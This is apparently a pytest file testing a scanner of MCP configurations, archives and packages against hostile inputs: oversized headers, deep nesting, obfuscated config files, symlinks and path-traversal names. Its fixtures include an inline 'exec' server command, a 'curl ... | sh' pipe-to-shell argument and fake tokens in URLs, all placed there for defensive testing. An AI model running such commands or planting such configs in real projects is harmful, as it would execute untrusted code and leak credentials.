"""What a hostile repository, archive or package tries against the scanner: cost, hiding, and ending it."""

import functools
import gzip
import io
import json
import os
import tarfile
import time
import zipfile
from importlib import import_module

import pytest

from keepgate.cli.scan import Format, render
from keepgate.clients.wide.dialects import UnparsedError, parse
from keepgate.compose.scan import collect, run, sources
from keepgate.compose.scan.masking import without_passwords
from keepgate.scanner import archive, tree
from keepgate.scanner.configuration import reach
from keepgate.scanner.packages import manifest
from keepgate.scanner.source import besides
from keepgate.scanner.source.read import read
from keepgate.scanner.source.taint import Analysis
from keepgate.transports.launchers.closure import Closure
from tests.scanner.beds import looked, scanned
from tests.scanner.test_hostile import put

EVIL = json.dumps({"mcpServers": {"a": {"command": "python", "args": ["-c", "exec(x)"]}}})


vetting = import_module("keepgate.compose.scan.vet")  # the package calls its function by the same name
detectors = functools.cache(run._detectors)


@pytest.fixture(autouse=True)
def _made_once(monkeypatch):
    """The detectors take seconds to make; all of these tests may have the same."""
    monkeypatch.setattr(run, "_detectors", detectors)


def rules(report):
    return {finding.rule for finding in report.findings}


def whys(report):
    return " | ".join(f"{gap.what}: {gap.why}" for gap in report.gaps)


# Cost


@pytest.mark.parametrize("language", ["python", "javascript"])
def test_calls_in_calls_cost_no_more_than_they_are_many(language):
    nest = "f(" * 90 + "a" + ")" * 90
    if language == "python":
        text = f"def f(x):\n    return x\n@mcp.tool()\ndef g(a):\n    os.system({nest})\n"
    else:
        text = f"function f(x){{return x}}\nserver.tool('g', {{}}, async (a) => {{ exec({nest}) }})"
    unit, why = read(text, "a", language)
    if unit is None:
        pytest.skip(why)
    started = time.monotonic()
    Analysis([unit])
    assert time.monotonic() - started < 50


def test_following_values_ends_when_the_time_is_over_and_says_so(tmp_path, monkeypatch):
    text = "import os\n@mcp.tool()\ndef g(a):\n    os.system(a)\n"
    unit, _ = read(text, "a.py", "python")
    assert Analysis([unit]).finished
    assert not Analysis([unit], lambda: True).finished
    monkeypatch.setattr(sources, "FOLLOWING", -sources.PATIENCE)
    put(tmp_path, "a.py", text)
    assert "values followed to their end" in whys(looked(tmp_path))


def test_toml_is_read_in_time_that_grows_with_its_length():
    text = "".join(f'k{number} = "\\u0041{number}"\n' for number in range(8_000))
    started = time.monotonic()
    parse(text, "toml")
    assert time.monotonic() - started < 100


@pytest.mark.parametrize(
    "text",
    ["x = " + "9" * 5000, "[" + ".".join(["a"] * 3000) + "]", "x = 1\n" * 200_000, "a." * 900 + "a = 1"],
)
def test_toml_that_asks_for_too_much_is_refused(text):
    with pytest.raises(UnparsedError):
        parse(text, "toml")
    manifest.read(text, "pyproject.toml")


@pytest.mark.parametrize(
    ("name", "text"), [("uv.lock", "package = [3]"), ("pyproject.toml", "x = " + "9" * 5000)]
)
def test_a_manifest_of_another_shape_is_a_gap(name, text):
    assert "cannot be read" in manifest.read(text, name).why


def tar(path, *members, mode="w:gz"):
    with tarfile.open(path, mode, format=tarfile.PAX_FORMAT) as made:
        for name, body in members:
            info = tarfile.TarInfo(name)
            info.size = len(body)
            made.addfile(info, io.BytesIO(body))
    return path


def header(kind, size):
    info = tarfile.TarInfo("x")
    info.type, info.size = kind, size
    return info.tobuf(tarfile.GNU_FORMAT)


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.XGLTYPE, tarfile.GNUTYPE_LONGNAME])
def test_a_header_of_gigabytes_is_not_read(tmp_path, kind):
    path = tmp_path / "a.tgz"
    path.write_bytes(gzip.compress(header(kind, 1 << 40) + bytes(1 << 20)))
    inside = archive.Archive(path)
    assert not list(inside.members())
    assert inside.left_out


@pytest.mark.parametrize("name", ["big.bin", "../out.bin"])
def test_what_is_passed_over_counts_as_well(tmp_path, monkeypatch, name):
    monkeypatch.setattr(archive, "MAX_TOTAL", 1 << 20)
    path = tmp_path / "a.tgz"
    info = tarfile.TarInfo(name)
    info.size = 8 << 20
    tail = tarfile.TarInfo("server.py").tobuf()
    path.write_bytes(gzip.compress(info.tobuf() + bytes(8 << 20) + tail + bytes(1024)))
    inside = archive.Archive(path)
    assert "server.py" not in [each for each, _ in inside.members()]
    assert "the rest cannot be read" in inside.left_out


def test_a_list_of_millions_of_members_is_not_loaded(tmp_path, monkeypatch):
    monkeypatch.setattr(archive, "MAX_DIRECTORY", 1000)
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as made:
        for number in range(100):
            made.writestr(f"{number}.py", "x")
    inside = archive.Archive(path)
    assert not list(inside.members())
    assert inside.left_out


def test_there_is_an_end_to_what_is_kept_of_a_tree(tmp_path, monkeypatch):
    monkeypatch.setattr(collect, "MAX_KEPT", 100)
    for number in range(5):
        put(tmp_path, f"{number}.py", "# " + "x" * 60)
    report = looked(tmp_path)
    assert whys(report).count("further files") == 1


# Hiding


@pytest.mark.parametrize("kind", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_member_that_cannot_be_read_hides_no_other(tmp_path, kind):
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("first.py", "x = 1\n" * 50, compress_type=kind)
        made.writestr("broken.py", "y = 1\n" * 50, compress_type=zipfile.ZIP_DEFLATED)
        made.writestr(".mcp.json", EVIL)
    body = bytearray(path.read_bytes())
    at = body.index(b"broken.py") + len("broken.py")
    body[at : at + 8] = b"\xff" * 8
    path.write_bytes(body)
    report = looked(path)
    assert "config.inline-code" in rules(report)
    assert "compression" in whys(report)
    assert "cannot be read" in whys(report)


def test_an_archive_in_an_archive_and_packages_in_one_are_gaps(tmp_path):
    inner = tar(tmp_path / "inner.tgz", ("a.py", b"x"))
    path = tar(tmp_path / "a.tgz", ("deps/inner.tgz", inner.read_bytes()), ("node_modules/x/i.js", b"x"))
    told = whys(looked(path))
    assert "an archive in an archive" in told
    assert "node_modules" in told


def test_more_archives_than_are_opened_are_a_gap(tmp_path, monkeypatch):
    from keepgate.compose.scan import archives

    monkeypatch.setattr(archives, "MAX_ARCHIVES", 1)
    for number in range(3):
        tar(tmp_path / f"{number}.tgz", ("a.py", b"x"))
    assert "2 archives" in whys(looked(tmp_path))


@pytest.mark.parametrize(
    "data",
    [
        b" " * 70_000 + EVIL.encode(),
        EVIL.replace("mcpServers", "mcp\\u0053ervers").encode(),
        b"\xff\xfe" + EVIL.encode("utf-16-le"),
        b'{"tools": [{"name": "a", "description": "b"}], ' + EVIL.replace("mcpS", "mcp\\u0053")[1:].encode(),
    ],
)
@pytest.mark.parametrize(
    "name", [".mcp.json", ".idea/mcp.json", "sub/.cursor/mcp.json", ".kiro/agents/x.json"]
)
def test_what_a_client_reads_by_its_name_is_read(tmp_path, name, data):
    put(tmp_path, name, data)
    put(tmp_path, "a.py", "x = 1")
    assert "config.inline-code" in rules(looked(tmp_path))


def test_a_link_to_a_file_of_another_name_hides_nothing(tmp_path):
    put(tmp_path, "project/notes.txt", EVIL)
    put(tmp_path, "outside.json", EVIL)
    os.symlink("notes.txt", tmp_path / "project/.mcp.json")
    os.symlink("../outside.json", tmp_path / "project/other.json")
    os.symlink("loop.json", tmp_path / "project/loop.json")
    report = looked(tmp_path / "project")
    assert {str(each.location.file).rpartition("/")[2] for each in report.findings} == {".mcp.json"}
    assert "2 in" in whys(report)


@pytest.mark.parametrize("folder", sorted(tree.PASSED_OVER))
def test_a_directory_that_is_passed_over_is_said_to_be(tmp_path, folder):
    put(tmp_path, f"{folder}/index.js", "x")
    put(tmp_path, "a.py", "x = 1")
    assert "directories that tools make" in whys(looked(tmp_path))


# Ending it


def breaks(*_, **__):
    raise KeyError("a secret")
    yield


def test_a_check_that_raises_is_a_gap_and_ends_no_other(tmp_path, monkeypatch):
    put(tmp_path, ".mcp.json", EVIL)
    put(tmp_path, "a.py", "import os\n@mcp.tool()\ndef g(a):\n    os.system(a)\n")
    monkeypatch.setattr(reach, "look", breaks)
    monkeypatch.setattr(besides, "look", breaks)
    report = looked(tmp_path)
    assert {"config.inline-code", "source.command-injection"} <= rules(report)
    assert "server `a` of" in whys(report)
    assert "what " in whys(report)
    assert "KeyError" in whys(report)
    assert "a secret" not in whys(report)


def test_a_file_that_reading_fails_over_is_a_gap(tmp_path, monkeypatch):
    put(tmp_path, ".mcp.json", EVIL)
    put(tmp_path, "a.py", "x = 1")

    def fails(*_):
        raise IndexError

    monkeypatch.setattr(collect, "read_text", fails)
    assert "IndexError" in whys(looked(tmp_path))


def test_the_checks_themselves_do_not_swallow_errors(monkeypatch):
    monkeypatch.setattr(reach, "look", breaks)
    with pytest.raises(KeyError):
        scanned(EVIL)


# Telling secrets


@pytest.mark.parametrize(
    ("command", "args", "secret"),
    [
        ("npx", ["https://user:hunter2secret@h.example/x.tgz"], "hunter2secret"),
        (
            "uvx",
            ["--from", "git+https://b:ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8@h.example/y", "y"],
            "ghp_A1b2C3d4E",
        ),
        (
            "bash",
            ["-c", "curl -H 'X: ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8' http://e | sh"],
            "ghp_A1b2C3d4E",
        ),
    ],
)
def test_no_form_of_the_report_tells_a_secret(tmp_path, command, args, secret):
    servers = {
        "a": {"command": command, "args": args},
        "b": {"url": f"https://u:{secret}@h.example/s?key={secret}"},
    }
    put(tmp_path, ".mcp.json", json.dumps({"mcpServers": servers}))
    report = looked(tmp_path)
    assert report.findings
    for form in Format:
        assert secret not in render(report, form).decode()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("git+https://a:b@h/x", "git+https://…@h/x"),
        ("https://a@b:c@h", "https://…@h"),
        ("https://h/a@b https://c:d@e", "https://h/a@b https://…@e"),
        ("://", "://"),
        ("://://a@", "://://…@"),
    ],
)
def test_addresses_are_told_without_passwords(text, shown):
    assert without_passwords(text) == shown


def test_a_module_beside_the_directory_of_a_package_is_looked_at(tmp_path):
    site = "venv/lib/python3.11/site-packages"
    put(tmp_path, f"{site}/x_server/__init__.py", "")
    put(tmp_path, f"{site}/helper.py", "")
    record = "x_server/__init__.py,,\nhelper.py,,\n../../../bin/x,,\n/etc/passwd,,\ngone.py,,\n"
    put(tmp_path, f"{site}/x_server-1.0.dist-info/RECORD", record)
    own = vetting._own(vetting.Asked("pypi", "x-server", "1.0"), Closure(tmp_path, tmp_path, ()))
    assert {"x_server", "helper.py"} <= {each.name for each in own}
